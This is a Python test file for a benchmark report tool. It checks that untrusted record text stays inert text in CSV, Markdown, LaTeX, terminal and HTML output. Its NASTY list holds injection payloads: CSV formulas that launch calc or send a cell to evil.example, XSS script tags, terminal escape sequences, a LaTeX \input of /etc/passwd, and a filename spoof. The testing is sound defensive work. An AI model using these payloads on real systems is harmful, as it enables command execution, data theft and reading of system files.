"""Names and reasons of records are anybody's text: every format shows them as text, and neither a
spreadsheet, a terminal, a Markdown or LaTeX reader nor a browser obeys them."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from benchmarks.report.__main__ import INDEX
from benchmarks.report.__main__ import main as report
from benchmarks.tables.__main__ import main as tables
from benchmarks.tables.formats import FORMATS
from benchmarks.tables.formats.csv import FORMULA
from benchmarks.tables.formats.terminal import rich_table
from benchmarks.tables.table import tabulate
from hierdiff.config import printable
from hierdiff.metrics.identity import Identity
from hierdiff.results.record import Record
from tests.benchmarks.rows import cost, quality, record, training

NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "back\x08\x08\x08space \x07bell \x00nul \x7fdel",
    "[red]red[/red] [link=http://evil.example]x[/link] [/]",
    ":warning: :smile:",
    "a|b|c",
    "one\ntwo\n\n# three",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "&lt;b&gt; &#60;b&#62;",
    "[text](http://evil.example) ![i](http://evil.example/i.png) [a][b]",
    "[a]: http://evil.example",
    "<http://evil.example> http://evil.example www.evil.example",
    "`code` ``more`` **bold** _slanted_ ~~gone~~",
    "\\| \\` \\",
    r"\input{/etc/passwd} $x^2$ 50% a_b #1 ~ ^ { } &",
    "[3pt] starts with a bracket",
    "* starts with a star",
    "1. a list",
    "# a heading",
    "\u202egnp.exe\u202c \u2066x",
    "\ud800 alone",
    "é ü 日本 😀",
    "x" * 400,
)

OURS = set(
    re.findall(
        r"\w+",
        """begin end centering caption label footnotesize setlength tabcolsep par medskip toprule
        midrule bottomrule cmidrule multicolumn shortstack textbf underline scriptsize pm uparrow
        downarrow smallskip raggedright allowbreak dagger textbackslash textasciitilde
        textasciicircum textless textgreater textbar""",
    )
)


def hostile(text: str) -> Record:
    """`text` wherever a record holds words."""
    rows = (
        quality(64, "native", 1.5),
        quality(64, "native", 2.5, metric=text, identity=Identity(text)),
    )
    return record(
        text,
        method=text,
        data=text,
        budget=text,
        quality=rows,
        cost=(cost(64, None, 5.5, train_failure=text),),
        training=training(100, 1e9, notes=[text]),
        config={"seed": 0, "option": text, text: text},
        provenance={"ended": text, "machine": {"cpu": text}},
    )


def pair(text: str) -> list[Record]:
    """Two methods that differ in an option, and a failure."""
    one = hostile(text)
    failure = record(f"{text} failed", data=text, budget=text, failure=text)
    return [one, record("other", data=text, budget=text, config={"option": "a"}), failure]


@pytest.mark.parametrize("preset", ["all", "ablation"])
@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_no_cell_of_a_csv_is_a_formula(text: str, preset: str):
    printed = FORMATS["csv"](tabulate(pair(text), preset))
    lines = list(csv.reader(io.StringIO(printed)))
    assert len({len(line) for line in lines}) == 1 and len(lines) > 3
    for cell in (cell for line in lines for cell in line):
        assert not FORMULA.match(cell) or re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell), cell
        assert printable(cell) == cell
    assert any(printable(text).strip() in cell for line in lines for cell in line)


def test_numbers_of_a_csv_stay_numbers():
    one = record("a", quality=(quality(64, "native", -1.5, metric="m"),), config={"shift": -0.5})
    two = record("b", quality=(quality(64, "native", -2.5, metric="m"),), config={"shift": 1e-9})
    lines = list(csv.DictReader(io.StringIO(FORMATS["csv"](tabulate([one, two], "ablation")))))
    assert [line["options shift"] for line in lines] == ["-0.5", "1e-09"]
    assert "-1.5" in lines[0].values()


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_markdown_reads_it_as_text(text: str):
    printed = FORMATS["markdown"](tabulate(pair(text), "all", left_out=[text]))
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = [t for token in reader.parse(printed) for t in (token, *(token.children or ()))]
    kinds = {token.type for token in tokens}
    allowed = {"text", "text_special", "inline", "strong_open", "strong_close"}
    assert kinds - allowed <= {
        f"{kind}_{end}"
        for kind in ("table", "thead", "tbody", "tr", "th", "td", "paragraph", "bullet_list",
                     "list_item")
        for end in ("open", "close")
    }  # fmt: skip
    assert sum(token.type == "table_open" for token in tokens) == 1
    cells = ["".join(t.content for t in token.children or ()) for token in tokens]
    shown = " ".join(printable(text).split())
    assert any(shown == " ".join(cell.split()) for cell in cells)  # the name, as it was given


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_latex_has_no_command_that_is_not_ours(text: str):
    printed = FORMATS["latex"](tabulate(pair(text), "all", left_out=[text]))
    body = printed.split("\n", 1)[1]
    commands = set(re.findall(r"\\([a-zA-Z]+)", body.replace("\\\\", " ")))
    assert commands <= OURS
    assert "\\input" not in body and printable(body.replace("\n", "")) == body.replace("\n", "")
    assert not re.search(r"(^|\\\\)\s*[\[*]", body, re.MULTILINE)  # an argument of a line break
    depth = 0
    for brace in re.findall(r"(?<!\\)[{}]", body.replace("\\\\", "")):
        depth += 1 if brace == "{" else -1
        assert depth >= 0
    assert depth == 0


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_a_terminal_obeys_nothing_of_it(text: str):
    out = Console(file=io.StringIO(), force_terminal=True, width=2000)
    out.print(rich_table(tabulate(pair(text), "all", left_out=[text])))
    said = re.sub(r"\x1b\[[\d;]*m", "", out.file.getvalue())  # colours of our own
    assert printable(said.replace("\n", "")) == said.replace("\n", "")
    seen = "".join(printable(text).split())
    assert len(seen) > 200 or seen in "".join(said.split())


def test_a_page_of_all_of_them_links_nowhere_and_shows_each(tmp_path: Path):
    for i, text in enumerate(NASTY[9::5] + NASTY[-1:]):
        hostile(text).write(tmp_path / "runs" / str(i))
    report([str(tmp_path / "runs"), "-o", str(tmp_path / "page")])
    page = (tmp_path / "page" / INDEX).read_text(encoding="utf-8")
    assert page.count("<script>") == 1
    links = re.findall(r'(?:href|src)="([^"]*)"', page)
    assert all(link.startswith(("#", "tables/", "pictures/", "charts/")) for link in links)
    assert printable(page.replace("\n", "")) == page.replace("\n", "")
    assert r"\x1b[2J" in page and "x" * 400 in page


def test_what_is_said_of_records_is_one_plain_line_each(tmp_path: Path, capsys):
    folder = tmp_path / "a \x1b[2J[red]\nb"
    record("a").write(tmp_path / "whole")
    folder.mkdir()
    (folder / "record.json").write_bytes(b"\xff")
    for command in (tables, report):
        options = ["-o", str(tmp_path / "page")] if command is report else []
        command([str(tmp_path), *options])
        (line,) = capsys.readouterr().err.splitlines()
        assert line.startswith("left out: ") and printable(line) == line and r"\x1b[2J" in line
